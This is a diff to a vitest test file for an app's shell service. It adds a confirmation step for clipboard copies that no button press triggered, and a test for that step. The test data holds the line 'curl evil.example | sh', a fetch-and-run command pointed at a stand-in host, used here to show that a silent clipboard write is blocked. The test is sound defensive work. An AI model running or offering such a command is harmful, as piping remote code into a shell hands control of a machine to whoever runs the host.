@@ -1,6 +1,7 @@
 import { afterEach, beforeEach, expect, test, vi } from 'vitest';
 import { shellService } from '../../../../src-main/app/shell-service';
 import { createAppLock } from '../../../../src-main/guard/app-lock';
+import type { Question } from '../../../../src-main/guard/confirm';
 import { unwatchedWork } from '../../../../src-main/ipc/work';
 import { externalLinks } from '../../../../src-shared/model/app';
 import type { ServerId } from '../../../../src-shared/model/server';
@@ -20,7 +21,14 @@ function service() {
   });
   const openLink = vi.fn(async () => {});
   const copy = vi.fn();
-  return { calls: shellService({ lock, openLink, copy }), lock, openLink, copy };
+  const says = { isAsked: true, yes: false };
+  const boxes: Question[] = [];
+  const confirm = async (question: Question) => {
+    boxes.push(question);
+    return { yes: says.yes, boxTicked: false };
+  };
+  const calls = shellService({ lock, openLink, copy, confirm, isAsked: () => says.isAsked });
+  return { calls, lock, openLink, copy, says, boxes };
 }
 
 test('main answers the calls that the page sends to it, and no others', () => {
@@ -37,6 +45,18 @@ test('a text is copied as it is', async () => {
   const { calls, copy } = service();
   await calls['app.copy']({ text: ' a\nb ' }, work);
   expect(copy.mock.calls).toEqual([[' a\nb ']]);
+});
+
+test('a text that nobody pressed a button for is copied only with a yes, and is shown', async () => {
+  const { calls, copy, says, boxes } = service();
+  says.isAsked = false;
+  const text = `curl evil.example | sh\n${'x'.repeat(1000)}`;
+  await expect(calls['app.copy']({ text }, work)).rejects.toMatchObject({ code: 'write.notConfirmed' });
+  expect(copy.mock.calls).toEqual([]);
+  expect(boxes[0]?.lines).toEqual(['It has 1023 characters, and begins with:', text.slice(0, 500)]);
+  says.yes = true;
+  await calls['app.copy']({ text }, work);
+  expect(copy.mock.calls).toEqual([[text]]);
 });
 
 test('what a window was at is given to the one after it; when that one is gone soon as well, without what was shown', async () => {
